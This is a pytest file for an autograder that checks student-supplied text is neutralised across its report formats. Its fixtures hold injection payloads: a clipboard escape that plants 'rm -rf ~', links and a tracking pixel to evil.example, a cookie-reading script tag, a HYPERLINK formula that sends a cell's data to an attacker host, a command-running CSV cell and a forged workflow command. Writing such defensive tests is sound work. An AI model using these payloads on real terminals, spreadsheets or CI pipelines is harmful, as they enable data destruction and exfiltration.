"""Output injection: student-controlled text (tracebacks, log lines, folder and zip member names) must arrive inert in
every output format: report.md, report.html, the console, the GitHub step summary and runner result, Gradescope's md
output, PrairieLearn, JUnit XML and grades.csv."""
from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET

import pytest
from rich.console import Console

from grader.cli import main
from grader.platforms import github, gradescope, junit, prairielearn
from grader.report import SubmissionReport
from grader.reports.escape import csv_cell, markdown, one_line, plain, xml
from grader.reports.gradebook import StudentResult, TaskColumn, grades_csv, summary_markdown
from grader.reports.html import render_html
from grader.reports.markdown import render_markdown
from grader.reports.table import print_report

from . import fakes
from .validators import validate_gradescope, validate_junit, validate_prairielearn

OSC52_CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4K\x07"
OSC8_LINK = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"
CLEAR_SCREEN = "\x1b[2J\x1b[H"
C1_CSI = "\x9b31m"
XML_INVALID = "\x00\x01\x0b\x0c\x1f\ufffe"
FAKE_TABLE = "x |\n| ✅ | Everything | 100 / 100 | | full marks |"
SCRIPT = "<script>alert(document.cookie)</script>"
IMAGE = "![pwned](https://evil.example/pixel.png)"
LINK = "[free marks](https://evil.example/)"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
PAYLOAD = " ".join([OSC52_CLIPBOARD, OSC8_LINK, CLEAR_SCREEN, C1_CSI, XML_INVALID, FAKE_TABLE, SCRIPT, IMAGE, LINK,
                    FORMULA, "::set-output name=result::forged", "\u202eevil"])
TERMINAL_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def hostile_report() -> SubmissionReport:
    """A report in which every field a student can influence holds the payload."""
    report = fakes.make_report(submission=f"{FORMULA}{OSC52_CLIPBOARD}", square_status="error",
                               recordings=[f"out/{CLEAR_SCREEN}evil`name/nominal.mcap"])
    circle, square = report.tasks
    circle.diagnostics = [f"move_circle.py printed: {PAYLOAD}",
                          f"move_circle.py stopped with an uncaught NameError at x.py line 3: {PAYLOAD}"]
    circle.criteria[0].feedback = f"Your node logged {PAYLOAD}"
    circle.criteria[0].measured = {"zip_member_name": PAYLOAD}
    square.message = PAYLOAD
    return report


def assert_inert_text(text: str) -> None:
    """No terminal controls, no characters XML cannot hold."""
    assert not TERMINAL_CONTROL.search(text), repr(TERMINAL_CONTROL.search(text))
    assert "\ufffe" not in text


def assert_inert_markdown(text: str) -> None:
    """No raw HTML, image, link or extra table row made from student text."""
    assert_inert_text(text)
    assert "<script" not in text and not re.search(r"(?<!\\)\]\(https://evil", text)
    assert "| ✅ | Everything" not in text
    for line in text.splitlines():  # every table row has exactly as many cell separators as its header
        if line.startswith("| ✅ |") or line.startswith("| ❌ |"):
            assert len(re.findall(r"(?<!\\)\|", line)) == 6, line


def test_plain_strips_clipboard_hyperlink_and_clear_screen_sequences():
    assert plain(f"a{OSC52_CLIPBOARD}b{OSC8_LINK}c{CLEAR_SCREEN}d{C1_CSI}e") == "abclick mecde"


def test_plain_keeps_tabs_and_newlines_and_one_line_folds_them():
    assert plain("a\tb\r\nc") == "a\tb\nc" and one_line("a\tb\nc") == "a b c"


def test_markdown_escapes_links_images_tags_and_line_start_syntax():
    assert markdown(LINK) == "\\[free marks\\](https://evil.example/)"
    assert markdown(SCRIPT).startswith("&lt;script&gt;")
    assert markdown("# big\n> quote\n1. item") == "\\# big\n&gt; quote\n1\\. item"


def test_xml_removes_characters_xml_cannot_hold():
    assert xml(f"a{XML_INVALID}b\u00e9\U0001f600") == "ab\u00e9\U0001f600"


@pytest.mark.parametrize("cell", [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "＝1"])
def test_csv_cells_that_would_run_as_formulas_get_an_apostrophe(cell):
    assert csv_cell(cell).startswith("'")


def test_csv_numbers_stay_numbers():
    assert csv_cell(-2.5) == -2.5 and csv_cell("alice") == "alice"


def test_report_markdown_is_inert(hostile_report):
    assert_inert_markdown(render_markdown(hostile_report, notes=[PAYLOAD]))


def test_github_step_summary_is_inert(hostile_report):
    assert_inert_markdown(github.step_summary(hostile_report))


def test_github_runner_messages_cannot_start_workflow_commands(hostile_report):
    for test in github.runner_result(hostile_report)["tests"] + github.runner_failure(PAYLOAD)["tests"]:
        assert_inert_text(test["name"] + test["message"])
        assert not test["message"].startswith("::") and "\n" not in test["message"]


def test_html_report_is_inert(hostile_report):
    page = render_html(hostile_report, notes=[PAYLOAD])
    assert_inert_text(page)
    assert "<script>alert" not in page and 'href="https://evil' not in page


def test_console_table_is_inert_at_80_columns(hostile_report):
    buffer = io.StringIO()
    print_report(Console(file=buffer, width=80, color_system=None), hostile_report)
    out = buffer.getvalue()
    assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out
    assert all(len(line) <= 80 for line in out.splitlines())


def test_gradescope_md_output_is_inert(hostile_report):
    results = validate_gradescope(json.dumps(gradescope.gradescope_results(hostile_report)))
    assert_inert_markdown(results["output"])
    for test in results["tests"]:
        assert_inert_markdown(test["output"])
        assert_inert_text(test["name"])
    assert_inert_markdown(gradescope.gradescope_failure(PAYLOAD)["output"])


def test_prairielearn_results_are_inert(hostile_report):
    results = validate_prairielearn(json.dumps(prairielearn.prairielearn_results(hostile_report)))
    texts = [results["output"], results["message"]] + [t[k] for t in results["tests"] for k in ("name", "message", "output")]
    for text in texts + prairielearn.prairielearn_failure(PAYLOAD)["format_errors"]:
        assert_inert_text(text)


def test_junit_xml_parses_and_attributes_hold_no_controls(hostile_report):
    root = validate_junit(junit.junit_xml(hostile_report))
    for element in root.iter():
        for value in [*element.attrib.values(), element.text or ""]:
            assert_inert_text(value.replace("\n", " "))
    ET.fromstring(junit.junit_failure(PAYLOAD).split("?>", 1)[1])


def test_grades_csv_neutralises_formulas_and_controls(hostile_report):
    results = [StudentResult(FORMULA, hostile_report, "graded", name=FORMULA),
               StudentResult(f"+cmd|{CLEAR_SCREEN}", None, "error", PAYLOAD)]
    tasks = [TaskColumn(t.id, t.max_score) for t in hostile_report.tasks]
    rows = list(csv.reader(io.StringIO(grades_csv(results, tasks))))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell
            assert_inert_text(cell)


def test_batch_summary_is_inert(hostile_report):
    results = [StudentResult(f"{LINK}{OSC8_LINK}", None, "error", PAYLOAD)]
    assert_inert_markdown(summary_markdown(results, [TaskColumn("move_circle", 10.0)], None))


def test_cli_error_lines_hold_no_terminal_controls(grading, capsys):
    assert main(["check", f"missing{CLEAR_SCREEN}{OSC52_CLIPBOARD}.py"]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err and "rosgrade: error:" in err


def test_batch_progress_and_messages_hold_no_terminal_controls(grading, tmp_path, capsys):
    folder = tmp_path / "subs"
    for name in (f"eve{CLEAR_SCREEN}[bold]x[/bold]", "ann"):
        (folder / name).mkdir(parents=True)
        (folder / name / "move_circle.py").write_text("import rospy\n")
    assert main(["batch", str(folder), "--out", "out", "-j", "1"]) == 0
    out, err = capsys.readouterr()
    assert "\x1b[2J" not in out + err and "\x1b]52" not in out + err
